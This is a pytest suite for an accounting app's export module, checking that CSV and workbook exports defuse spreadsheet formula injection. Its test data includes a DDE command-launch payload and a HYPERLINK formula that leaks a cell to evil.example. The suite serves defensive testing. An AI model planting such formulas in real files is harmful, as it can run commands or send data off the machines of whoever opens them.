"""Nothing that leaves becomes a formula in somebody's spreadsheet (ASVS V1.2.10, CWE-1236)."""

import csv
import io
import re

import openpyxl
import pytest

from khlang.platform import exporting
from tests.architecture.source import sources
from tests.hardening.addresses import filled, routes
from tests.web.desk import TODAY, Desk

NASTY = ("=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1+1", "＋1", "－1+1", "＠A1",
         "﹦1", "\u200b=1", "'=1", '"=1"', "“=1”", "\u00a0=1", "\0=1", "=HYPERLINK(\"http://evil.example?\"&A1)")  # fmt: skip
HONEST = ("", "นางคำ ทองดี", "-1234.50", "1,234.50", "0812345678", "a=b", "RV68-00001/2568", "(เดิม)", "'อ้าง'", "๑๒๓")


@pytest.mark.parametrize("text", NASTY)
def test_a_nasty_text_gets_an_apostrophe(text: str) -> None:
    assert exporting.harmless(text=text) == f"'{text}"


@pytest.mark.parametrize("text", HONEST)
def test_an_honest_text_stays(text: str) -> None:
    assert exporting.harmless(text=text) == text


def test_csv_keeps_cells_apart() -> None:
    """Quotes are doubled and breaks stay inside their cell (RFC 4180)."""
    rows = [["a", 'x","=1', "b\r\n=1"], [None, 5, "=1"]]
    text = exporting.csv_text(rows=rows, mark=False)
    assert list(csv.reader(io.StringIO(text, newline=""))) == [rows[0], ["", "5", "'=1"]]


def test_a_text_in_a_workbook_is_a_text() -> None:
    out = io.BytesIO()
    with exporting.workbook(out) as book:
        sheet = book.add_worksheet()
        for line, text in enumerate(NASTY):
            sheet.write(line, 0, text.replace("\0", ""))
    cells = [row[0] for row in openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.iter_rows()]
    assert len(cells) == len(NASTY) and {cell.data_type for cell in cells} == {"s"}
    assert not any(cell.hyperlink for cell in cells)


def test_there_is_one_door() -> None:
    """No file of the program makes CSV or a workbook in another way; the demo's own input is not for anybody."""
    way = re.compile(r"\bcsv\.(?:writer|DictWriter)\(|\bxlsxwriter\.Workbook\(")
    found = {source.path for source in sources("khlang") if way.search(source.text)}
    assert found == {"khlang/platform/exporting.py", "khlang/faces/cli/demo/payees.py"}


def cells_of(content: bytes, kind: str) -> list[str]:
    """Every text of a file; a formula in a workbook fails at once."""
    if kind == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
    found = []
    for sheet in openpyxl.load_workbook(io.BytesIO(content)):
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
            found.append(str(cell.value or ""))
    return found


def test_every_list_and_report_that_can_be_taken_along(desk: Desk) -> None:
    """With payers of nasty names: every address of an export, in both kinds of files."""
    names = ("=1+1", "＝HYPERLINK(1)", "@SUM(A1)")
    for name in names:
        document = desk.receipt(payer=name)
    client, seen, taken = desk.client("pranee"), set(), 0
    paths = [
        filled(route, format="KIND", document_id=document, code="11010101") for route in routes() if "export" in route
    ]
    paths += [f"/reports/{name}/?format=KIND" for name in ("daily_status", "receipts", "collections", "trial_balance")]
    assert len(paths) > 6
    for path in paths:
        for kind in ("csv", "xlsx"):
            answer = client.get(path.replace("KIND", kind), {"on": TODAY.isoformat()} if "accounts" in path else {})
            if answer.status_code != 200 or "attachment" not in answer.get("Content-Disposition", ""):
                continue
            taken += 1
            for cell in cells_of(answer.content, kind):
                assert kind == "xlsx" or exporting.harmless(text=cell) == cell or cell.startswith("'"), (path, cell)
                seen |= {name for name in names if name in cell}
    assert taken > 8
    assert seen == set(names)
